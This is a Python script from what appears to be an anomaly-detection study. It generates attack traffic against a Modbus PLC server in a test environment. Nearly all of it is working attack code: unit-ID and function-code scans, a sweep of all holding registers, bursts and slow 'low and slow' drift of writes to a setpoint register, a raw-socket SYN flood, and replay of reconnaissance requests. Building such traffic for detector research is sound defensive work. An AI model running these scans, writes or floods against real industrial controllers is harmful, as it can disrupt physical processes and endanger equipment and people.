#!/usr/bin/python3
"""The anomaly study's scripted attacks, sent by real clients to a real Modbus server (pymodbus)
from inside a host namespace (eval/peer_record.py runs them). Each one prints a JSON summary.

  unit_id_scan PLC         pymodbus client: units 0-247, odd ones FC17 (report server id), even
                           ones FC3 register 0; 6-12 requests per second
  function_code_scan PLC   a socket client: function codes 1-127 (data 0000 0001) on unit 1, 3-10
                           per second; reconnects when the server drops the connection
  register_sweep PLC       pymodbus client: FC3 of all 65,536 holding registers, 125 at a time,
                           about 10 per second (the server answers "illegal address" past 1000)
  write_burst PLC          pymodbus client: FC6 register 20, values 40-60 (the operator's own
                           function, register and values), 300 writes 10-30 ms apart
  connection_flood PLC     raw socket: 3000 SYNs to PLC:502 from random ports in 3 s (the PLC's
                           kernel answers SYN-ACK, the attacker's kernel resets)
  recon_replay PLC         the client requests of the shared capture modbus/iti_modbus_testdata_part1.pcap
                           (OpenICS test data: many function codes, diagnostics, device id) sent
                           over one real connection, 100-300 ms apart, answered by the server
  write_drift PLC          low and slow: --writes separate connections each writing the setpoint
                           (FC6 register 20) one higher, 55, 56, ...; recorded back to back, the
                           study spaces them at the operator's pace (every 3-8 min)
(The PLC stop attempt is tests/e2e/peers/s7_station.js stop, a real node-snap7 client.)
"""
import json
import os
import random
import socket
import struct
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
SHARED = os.environ.get("FG_SHARED", os.path.join(HERE, "..", "..", "shared"))


def pymodbus_client(plc):
    from pymodbus.client import ModbusTcpClient
    # A short timeout: a scanner does not wait long for what never answers (unit 0 is broadcast).
    # Not below 1 s: pymodbus 3.0.0rc1 truncates it to whole seconds and 0 makes connect() fail.
    c = ModbusTcpClient(plc, port=502, timeout=1, retries=0, retry_on_empty=False)
    if not c.connect():
        raise SystemExit("connect failed")
    return c


def quiet(fn, *args, **kw):
    """An attack does not stop at an exception answer or a missing one."""
    try:
        r = fn(*args, **kw)
        return r is not None and not r.isError()
    except Exception:
        return False


def unit_id_scan(plc, rnd):
    from pymodbus.other_message import ReportSlaveIdRequest
    c = pymodbus_client(plc)
    ok = 0
    for unit in range(248):
        if unit % 2:
            ok += quiet(c.execute, ReportSlaveIdRequest(unit=unit))
        else:
            ok += quiet(c.read_holding_registers, 0, 1, slave=unit)
        time.sleep(1 / rnd.uniform(6, 12))
    c.close()
    return {"requests": 248, "answered_ok": ok}


def function_code_scan(plc, rnd):
    s, tid, answered, reconnects = None, 0, 0, 0
    for fc in range(1, 128):
        if s is None:
            s = socket.create_connection((plc, 502), timeout=0.3)
            reconnects += 1
        tid += 1
        pdu = bytes([fc, 0, 0, 0, 1])
        try:
            s.sendall(struct.pack(">HHHB", tid, 0, len(pdu) + 1, 1) + pdu)
            if s.recv(260):
                answered += 1
            else:
                s.close()
                s = None  # the server closed: connect again, as a scanner does
        except OSError:  # no answer within 300 ms, or a reset
            s.close()
            s = None
        time.sleep(1 / rnd.uniform(3, 10))
    if s:
        s.close()
    return {"requests": 127, "answered": answered, "connections": reconnects}


def register_sweep(plc, rnd):
    c = pymodbus_client(plc)
    n = ok = 0
    for addr in range(0, 65536 - 125, 125):
        ok += quiet(c.read_holding_registers, addr, 125, slave=1)
        n += 1
        time.sleep(rnd.uniform(0.07, 0.13))
    c.close()
    return {"requests": n, "answered_ok": ok}


def write_burst(plc, rnd):
    c = pymodbus_client(plc)
    ok = sum(quiet(c.write_register, 20, 40 + i % 21, slave=1) or time.sleep(rnd.uniform(0.01, 0.03)) or 0
             for i in range(300))
    c.close()
    return {"requests": 300, "answered_ok": ok}


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def connection_flood(plc, rnd):
    """SYNs through a raw socket (the kernel adds the IP header): the half-open flood a SYN
    flooder sends; this host's kernel resets the SYN-ACKs it never asked for, as any would."""
    src = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    src.connect((plc, 502))
    me = src.getsockname()[0]
    src.close()
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    pseudo_ips = socket.inet_aton(me) + socket.inet_aton(plc)
    t0 = time.monotonic()
    for i in range(3000):
        sport = rnd.randrange(1024, 65535)
        opts = struct.pack("!BBH", 2, 4, 1460)  # MSS
        hdr = struct.pack("!HHIIBBHHH", sport, 502, rnd.randrange(1 << 32), 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
        csum = checksum(pseudo_ips + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(hdr)) + hdr)
        hdr = hdr[:16] + struct.pack("!H", csum) + hdr[18:]
        raw.sendto(hdr, (plc, 0))
        time.sleep(max(0.0, t0 + (i + 1) * 0.001 - time.monotonic()))
    raw.close()
    return {"syns": 3000, "seconds": round(time.monotonic() - t0, 2)}


def recon_replay(plc, rnd):
    from scapy.all import rdpcap, TCP, Raw
    pkts = rdpcap(os.path.join(SHARED, "pcaps", "modbus", "iti_modbus_testdata_part1.pcap"))
    requests = [bytes(x[TCP].payload) for x in pkts if x.haslayer(TCP) and x.haslayer(Raw) and x[TCP].dport == 502]
    s, answered, connections = None, 0, 0
    for req in requests:
        if s is None:
            s = socket.create_connection((plc, 502), timeout=0.3)
            connections += 1
        try:
            s.sendall(req)
            if s.recv(300):
                answered += 1
            else:
                s.close()
                s = None
        except OSError:
            s.close()
            s = None
        time.sleep(rnd.uniform(0.1, 0.3))
    if s:
        s.close()
    return {"requests": len(requests), "answered": answered, "connections": connections}


def write_drift(plc, rnd, writes):
    ok = 0
    for i in range(writes):
        c = pymodbus_client(plc)
        ok += quiet(c.write_register, 20, 55 + i, slave=1)
        c.close()
        time.sleep(0.3)
    return {"writes": writes, "answered_ok": ok, "values": [55, 55 + writes - 1]}


def main():
    name, plc, *rest = sys.argv[1:]
    rnd = random.Random(name)
    if name == "write_drift":
        writes = int(rest[rest.index("--writes") + 1]) if "--writes" in rest else 45
        out = write_drift(plc, rnd, writes)
    else:
        out = globals()[name](plc, rnd)
    print(json.dumps(dict(out, attack=name)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
